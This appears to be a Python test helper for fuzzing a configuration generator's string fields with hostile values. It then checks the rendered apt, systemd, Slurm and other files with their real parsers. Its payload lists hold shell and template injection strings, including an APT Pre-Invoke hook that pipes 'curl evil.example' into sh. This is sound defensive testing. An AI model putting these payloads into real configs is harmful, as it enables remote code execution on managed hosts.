"""Hostile values for every string field of the spec, and the real parsers of every sink.

``string_fields`` walks the spec model (``Spec.model_fields``) for every place a YAML string can
go: ``str`` fields and their constrained forms, enums and string literals, dict keys and JSON
values. ``locations`` finds those places in a spec's data. ``hostile_values`` draws text built from
what breaks a sink (quotes, line breaks, NUL, ``${IFS}``, ``%`` zone IDs, ``{{ }}``, long and
unicode text). ``parse_file`` reads a rendered file with its format's own parser (``apt-config``,
``apt-get``, ``systemd-analyze``, Slurm's key=value rules, ``tomllib``, ``yaml.safe_load``, ...) into
a ``Parsed``: its shape (what a hostile value must not change: keys, lines, words) and its leaves
(every value as the parser reads it). ``command_shape`` does the same for a shell command.
"""

from __future__ import annotations

import ast
import configparser
import csv
import enum
import io
import json
import re
import shlex
import subprocess
import tempfile
import tomllib
import types
import typing
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml
from hypothesis import strategies as st
from pydantic import BaseModel, JsonValue

#: A field's place in the model: names, "[]" (any list item), "{key}" (a dict key), "{}" (a dict value).
Pattern = tuple[str, ...]
#: A place in a spec's data: keys and indices; a trailing ("{key}",) renames the key before it.
Location = tuple[Any, ...]
KEY = "{key}"


# --------------------------------------------------------------------------- the model's string fields


def string_fields(model: type[BaseModel], prefix: Pattern = ()) -> Iterator[Pattern]:
    """Every place in ``model`` a YAML string can go, as a pattern."""
    for name, info in model.model_fields.items():
        yield from _string_places(info.annotation, (*prefix, name))


def _string_places(annotation: Any, where: Pattern) -> Iterator[Pattern]:
    origin = typing.get_origin(annotation)
    args = typing.get_args(annotation)
    if annotation is JsonValue or annotation is str:
        yield where
    elif origin in (typing.Union, types.UnionType):
        seen: set[Pattern] = set()
        for arg in args:
            for place in _string_places(arg, where):
                if place not in seen:
                    seen.add(place)
                    yield place
    elif origin is typing.Annotated:
        yield from _string_places(args[0], where)
    elif origin is list:
        yield from _string_places(args[0], (*where, "[]"))
    elif origin is dict:
        yield from _string_places(args[0], (*where, KEY))
        yield from _string_places(args[1], (*where, "{}"))
    elif origin is typing.Literal:
        if any(isinstance(a, str) for a in args):
            yield where
    elif isinstance(annotation, type) and issubclass(annotation, enum.Enum):
        yield where
    elif isinstance(annotation, type) and issubclass(annotation, BaseModel):
        yield from string_fields(annotation, where)


def locations(data: Any, pattern: Pattern, at: Location = ()) -> Iterator[Location]:
    """The places in ``data`` that ``pattern`` names (a key pattern ends in ``KEY``)."""
    if not pattern:
        if isinstance(data, str):
            yield at
        return
    head, rest = pattern[0], pattern[1:]
    if head == "[]" and isinstance(data, list):
        for i, item in enumerate(data):
            yield from locations(item, rest, (*at, i))
    elif head == KEY and isinstance(data, dict) and not rest:
        yield from ((*at, k, KEY) for k in data if isinstance(k, str))
    elif head == "{}" and isinstance(data, dict):
        for k, item in data.items():
            yield from locations(item, rest, (*at, k))
    elif isinstance(data, dict) and head in data:
        yield from locations(data[head], rest, (*at, head))


def field_path(loc: Location) -> Location:
    """Where a problem with the value at ``loc`` is reported (a key's problems: at its dict)."""
    return loc[:-2] if loc and loc[-1] == KEY else loc


def original(data: Any, loc: Location) -> str:
    """The text at ``loc`` in ``data`` (a key's own text for a key)."""
    if loc[-1] == KEY:
        return str(loc[-2])
    for part in loc:
        data = data[part]
    return str(data)


def with_value(data: Any, loc: Location, value: str) -> Any:
    """``data`` (not changed) with the value, or the key, at ``loc`` replaced by ``value``."""
    copy = json.loads(json.dumps(data))
    node = copy
    steps = loc[:-2] if loc[-1] == KEY else loc[:-1]
    for part in steps:
        node = node[part]
    if loc[-1] == KEY:
        node[value] = node.pop(loc[-2])
    else:
        node[loc[-1]] = value
    return copy


def spec_value(spec: BaseModel, loc: Location) -> str | None:
    """The value the checked spec holds at ``loc`` (a URL as re-serialized), if it is a string."""
    node: Any = spec
    for part in loc[:-2] if loc[-1] == KEY else loc:
        node = getattr(node, part) if isinstance(part, str) and isinstance(node, BaseModel) else node[part]
    if loc[-1] == KEY:
        return None
    return node.value if isinstance(node, enum.Enum) else node if isinstance(node, str) else None


# --------------------------------------------------------------------------- hostile values

FRAGMENTS = (
    "'", '"', ";", "\n", "\r\n", "\x00", "\t", " ", "#", "\\", "`id`", "$(touch P)", "${IFS}", "&&", "|", ">",
    "{{ lookup('pipe','touch P') }}", "{%", "}}", "%eth0", "%25", "%x';touch${IFS}P;'", "=", ",", "[", "]",
    "{", "}", "..", "-oProxyCommand=x", "é", "\u2028", "\u200b", "\u0663", "x Include=/etc/passwd",
    '";APT::Update::Pre-Invoke{"sh";};"', "*", "\x1b[2J",
)  # fmt: skip
PLACEMENTS = ("prefix", "suffix", "replace", "middle", "zone-host")


def place(orig: str, fragment: str, where: str) -> str:
    """``fragment`` put in ``orig``: before, after, instead, in the middle, or as the IPv6 zone ID of
    an address in its shape (``scheme://[fe80::1%<fragment>]:3142/<path>`` for a URL,
    ``fd00::%<fragment>/64`` for a network, ``fe80::2%<fragment>`` else)."""
    if where == "prefix":
        return fragment + orig
    if where == "suffix":
        return orig + fragment
    if where == "middle":
        return orig[: len(orig) // 2] + fragment + orig[len(orig) // 2 :]
    if where == "zone-host":
        zone = fragment if fragment.startswith("%") else "%" + fragment
        scheme, sep, rest = orig.partition("://")
        if sep:
            return f"{scheme}://[fe80::1{zone}]:3142/{rest.partition('/')[2]}"
        return f"fd00::{zone}/64" if "/" in orig else f"fe80::2{zone}"
    return fragment


def hostile_values(orig: str) -> st.SearchStrategy[str]:
    """Hostile text derived from ``orig`` (one to three fragments, placed), or long text."""
    placed = st.builds(
        lambda frags, where: place(orig, "".join(frags), where),
        st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=3),
        st.sampled_from(PLACEMENTS),
    )
    long_text = st.sampled_from(["x" * 5000, "é" * 1500, orig + "\u0301" * 300, "a" * 254 + ".example.org"])
    return placed | long_text


#: The hostile values every field is given, whatever hypothesis draws besides.
FIXED = (
    ("x';touch${IFS}PWNED;'", "zone-host"),
    ('25";APT::Update::Pre-Invoke{"curl evil.example|sh";};x ', "zone-host"),
    ("{{lookup('pipe','touch X')}}", "zone-host"),
    ("\nSlurmctldHost=evil", "suffix"),
    ("';touch${IFS}P;'", "middle"),
    ("{{ lookup('pipe','id') }}", "replace"),
    ("\x00", "suffix"),
    (" Include=/etc/passwd", "suffix"),
    ("; touch P && $(id) | ${IFS} > /tmp/x # %s {{ x }}", "suffix"),
    ("é​ⅷ" * 3, "middle"),
    # The reproducers, whole.
    ('http://[fe80::1%25";APT::Update::Pre-Invoke{"curl evil.example|sh";};x "]:3142', "replace"),
    ("fd00::%x';touch${IFS}PWNED;'/64", "replace"),
    ("fe80::2%{{lookup('pipe','touch X')}}", "replace"),
)


# --------------------------------------------------------------------------- parsed files


@dataclass(frozen=True)
class Parsed:
    """A file or command as its parser reads it: the shape a value must not change, and the values."""

    shape: Any
    leaves: tuple[str, ...]


def _skeleton(value: Any, leaves: list[str]) -> Any:
    """``value``'s structure with every string (keys too) moved to ``leaves``."""
    if isinstance(value, dict):
        leaves.extend(str(k) for k in value)
        return ("map", tuple(_skeleton(v, leaves) for v in value.values()))
    if isinstance(value, list | tuple):
        return ("seq", tuple(_skeleton(v, leaves) for v in value))
    if isinstance(value, str):
        leaves.append(value)
        return "str"
    return type(value).__name__


def _structured(doc: Any) -> Parsed:
    leaves: list[str] = []
    return Parsed(_skeleton(doc, leaves), tuple(leaves))


def _words_per_line(text: str) -> Parsed:
    """Whitespace-separated formats (/etc/hosts, chrony, sysctl, modprobe, tmpfiles, enroot, plugstack)."""
    lines = [ln.split("#", 1)[0].split() for ln in text.splitlines()]
    lines = [ln for ln in lines if ln]
    return Parsed(tuple(len(ln) for ln in lines), tuple(w for ln in lines for w in ln))


def _dnsmasq(text: str) -> Parsed:
    """dnsmasq's configuration: ``option[=value]`` per line, the value split at ','; '#' starts a comment line."""
    lines = [ln.strip() for ln in text.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]
    pairs = [ln.partition("=") for ln in lines]
    return Parsed(
        tuple((key, len(value.split(","))) for key, _, value in pairs),
        tuple(field for _, _, value in pairs for field in value.split(",")),
    )


def _ipxe(text: str) -> Parsed:
    """An iPXE script: words per line, and each line's ``$`` (iPXE expands ``${setting}`` in every word)."""
    words = _words_per_line(text)
    dollars = tuple(ln.count("$") for ln in text.splitlines())
    return Parsed((words.shape, dollars), words.leaves)


def _shell_env(text: str) -> Parsed:
    """/etc/default files (sourced by a shell or systemd's EnvironmentFile=): bash -n, then shlex."""
    check = subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True, check=False)
    assert check.returncode == 0, check.stderr
    lines = [shlex.split(ln, comments=True) for ln in text.splitlines()]
    lines = [ln for ln in lines if ln]
    return Parsed(tuple(len(ln) for ln in lines), tuple(w for ln in lines for w in ln))


_SLURM_KV = re.compile(r'^\s*([A-Za-z0-9_.]+)\s*([-*+/]?)=\s*(("([^"]*)")|([^\s]+))(\s|$)')


def slurm_lines(text: str) -> list[list[tuple[str, str]]]:
    """slurm.conf-style text as Slurm's parser reads it (src/common/parse_config.c): unescaped '#'
    starts a comment, an odd run of trailing '\\' joins the next line, '\\x' is 'x', then each line
    is ``Key=Value`` pairs, a value "quoted" or one run of non-space characters."""
    out: list[list[tuple[str, str]]] = []
    pending = ""
    for raw in text.splitlines():
        line = pending + re.sub(r"(?<!\\)((?:\\\\)*)#.*", r"\1", raw)
        trailing = len(line) - len(line.rstrip("\\"))
        if trailing % 2:
            pending = line[:-1]
            continue
        pending = ""
        line = re.sub(r"\\(.)", r"\1", line)
        pairs: list[tuple[str, str]] = []
        while line.strip():
            m = _SLURM_KV.match(line)
            assert m is not None, f"slurm.conf line Slurm cannot parse: {line!r}"
            pairs.append((m[1].lower(), m[5] if m[5] is not None else m[6]))
            line = line[m.end(3) :]
        if pairs:
            out.append(pairs)
    return out


def _slurm(text: str) -> Parsed:
    lines = slurm_lines(text)
    return Parsed(tuple(tuple(k for k, _ in ln) for ln in lines), tuple(v for ln in lines for _, v in ln))


def systemd_words(value: str) -> list[str]:
    """A systemd command line or assignment list split as systemd does (quotes, C escapes, %%, $$)."""
    words: list[str] = []
    i, n = 0, len(value)
    while i < n:
        if value[i].isspace():
            i += 1
            continue
        word, quote = [], ""
        while i < n and (quote or not value[i].isspace()):
            c = value[i]
            if c == "\\" and i + 1 < n:
                word.append(value[i + 1])
                i += 2
                continue
            if c in "\"'" and (not quote or quote == c):
                quote = "" if quote else c
            else:
                word.append(c)
            i += 1
        assert not quote, f"unterminated quote in systemd line: {value!r}"
        words.append("".join(word).replace("%%", "%").replace("$$", "$"))
    return words


def _systemd(text: str, path: str) -> Parsed:
    shape: list[Any] = []
    leaves: list[str] = []
    for raw in text.splitlines():
        line = raw.strip()
        if not line or line[0] in "#;":
            continue
        if line.startswith("["):
            shape.append(line)
            continue
        key, sep, value = line.partition("=")
        assert sep, f"{path}: not a systemd assignment: {raw!r}"
        words = systemd_words(value) if key.startswith(("Exec", "Environment")) else [value]
        shape.append((key, len(words)))
        leaves.extend(words)
    if path.endswith((".service", ".timer")):
        _systemd_analyze(text, path)
    return Parsed(tuple(shape), tuple(leaves))


#: systemd-analyze verify messages about this machine, not the unit (binaries, units not installed).
_ENVIRONMENTAL = ("is not executable", "not found", "Failed to create", "Failed to load", "can't be loaded")


def _systemd_analyze(text: str, path: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        unit = Path(tmp) / Path(path).name
        unit.write_text(text)
        cp = subprocess.run(
            ["systemd-analyze", "verify", "--man=no", str(unit)], capture_output=True, text=True, check=False
        )
    problems = [ln for ln in (cp.stdout + cp.stderr).splitlines() if ln and not any(e in ln for e in _ENVIRONMENTAL)]
    assert not problems, f"{path}: systemd-analyze verify: {problems}"


def apt_config_dump(text: str) -> list[tuple[str, str]]:
    """The (key, value) pairs ``apt-config dump`` reads from ``text`` beyond the machine's own."""
    with tempfile.TemporaryDirectory() as tmp:
        conf, empty = Path(tmp) / "x.conf", Path(tmp) / "empty.conf"
        conf.write_text(text)
        empty.write_text("")
        dumps = []
        for f in (conf, empty):
            cp = subprocess.run(["apt-config", "-c", str(f), "dump"], capture_output=True, text=True, check=False)
            assert cp.returncode == 0, f"apt-config cannot read it: {cp.stderr}"
            dumps.append([ln for ln in cp.stdout.splitlines() if not ln.startswith("CommandLine::")])
    machine = set(dumps[1])
    pairs = []
    for ln in dumps[0]:
        if ln not in machine:
            key, _, value = ln.partition(" ")
            pairs.append((key, value.removesuffix(";").removeprefix('"').removesuffix('"')))
    # A new key's parents are dumped too, empty (``Acquire::http "";``): they are the tree, not values.
    return [(k, v) for k, v in pairs if v or not any(other.startswith(k + "::") for other, _ in pairs)]


def _apt_conf(text: str) -> Parsed:
    pairs = apt_config_dump(text)
    return Parsed(tuple(k for k, _ in pairs), tuple(v for _, v in pairs))


def apt_source_uris(text: str, name: str) -> list[str]:
    """The index URIs ``apt-get --print-uris update`` reads from one .list or .sources file."""
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        (root / "parts").mkdir()
        (root / "state" / "lists" / "partial").mkdir(parents=True)
        (root / "parts" / name).write_text(text)
        argv = ["apt-get", "-o", "Dir::Etc::SourceList=/dev/null", "-o", f"Dir::Etc::SourceParts={root / 'parts'}"]
        argv += ["-o", f"Dir::State={root / 'state'}", "-o", f"Dir::Cache={root / 'cache'}"]
        argv += ["-o", "Debug::NoLocking=1", "--print-uris", "update"]
        cp = subprocess.run(argv, capture_output=True, text=True, check=False)
    assert cp.returncode == 0 and not cp.stderr.strip(), f"apt-get cannot read {name}: {cp.stderr}"
    return [shlex.split(ln)[0] for ln in cp.stdout.splitlines() if ln.startswith("'")]


def _apt_sources(text: str, path: str) -> Parsed:
    uris = apt_source_uris(text, Path(path).name)
    return Parsed(len(uris), tuple(uris))


def _deb822_stanzas(text: str) -> Parsed:
    """apt preferences: stanzas of ``Key: value`` lines."""
    shape, leaves = [], []
    for stanza in re.split(r"\n\s*\n", text.strip()):
        keys = []
        for ln in stanza.splitlines():
            key, sep, value = ln.partition(":")
            assert sep and not ln[0].isspace(), f"not a preferences line: {ln!r}"
            keys.append(key)
            leaves.append(value.strip())
        shape.append(tuple(keys))
    return Parsed(tuple(shape), tuple(leaves))


def _ini(text: str) -> Parsed:
    parser = configparser.ConfigParser(interpolation=None, strict=True)
    parser.read_string(text)
    shape = tuple((s, tuple(parser[s])) for s in parser.sections())
    return Parsed(shape, tuple(v for s in parser.sections() for v in parser[s].values()))


def _csv(text: str) -> Parsed:
    rows = list(csv.reader(io.StringIO("\n".join(ln for ln in text.splitlines() if not ln.startswith("#")))))
    return Parsed(tuple(len(r) for r in rows), tuple(c for r in rows for c in r))


def _python(text: str) -> Parsed:
    tree = ast.parse(text)
    nodes = tuple(type(n).__name__ for n in ast.walk(tree))
    strings = tuple(n.value for n in ast.walk(tree) if isinstance(n, ast.Constant) and isinstance(n.value, str))
    return Parsed(nodes, strings)


def parse_file(path: str, data: bytes) -> Parsed:
    """A rendered file as the parser of its format reads it."""
    text = data.decode("utf-8")
    name = Path(path).name
    if path.startswith("/etc/apt/apt.conf.d/"):
        return _apt_conf(text)
    if path.startswith("/etc/apt/sources.list.d/"):
        return _apt_sources(text, path)
    if path.startswith("/etc/apt/preferences.d/"):
        return _deb822_stanzas(text)
    if path.startswith("/etc/systemd/"):
        return _systemd(text, path)
    if path.startswith("/etc/default/"):
        return _shell_env(text)
    if path.startswith("/etc/slurm/") and name != "plugstack.conf" and "plugstack.conf.d" not in path:
        return _slurm(text)
    if name.endswith((".yaml", ".yml")):
        return _structured(list(yaml.safe_load_all(text)))
    if name.endswith(".json"):
        return _structured(json.loads(text))
    if name.endswith(".toml"):
        return _structured(tomllib.loads(text))
    if name.endswith(".repo"):
        return _ini(text)
    if name.endswith(".csv"):
        return _csv(text)
    if path.startswith("/usr/local/sbin/"):
        return _python(text)
    if name == "dnsmasq.conf":
        return _dnsmasq(text)
    if name.endswith(".ipxe"):
        return _ipxe(text)
    return _words_per_line(text)


# --------------------------------------------------------------------------- shell commands

_OPERATORS = frozenset({";", "&&", "||", "|", "&", "(", ")", ">", ">>", "<", "<<", "|&", ";;", "<>", ">&", "<&"})


def command_shape(command: str) -> Parsed:
    """A shell command's operators and word count (shlex with the shell's punctuation); its words."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    tokens = list(lexer)
    return Parsed((len(tokens), tuple(t for t in tokens if t in _OPERATORS)), tuple(tokens))


def bash_syntax_errors(commands: list[str]) -> str:
    """``bash -n``'s complaints about ``commands`` (each in its own function body), or ''."""
    script = "".join(f"f{i}() {{\n{c}\n}}\n" for i, c in enumerate(commands))
    cp = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True, check=False)
    return cp.stderr if cp.returncode else ""
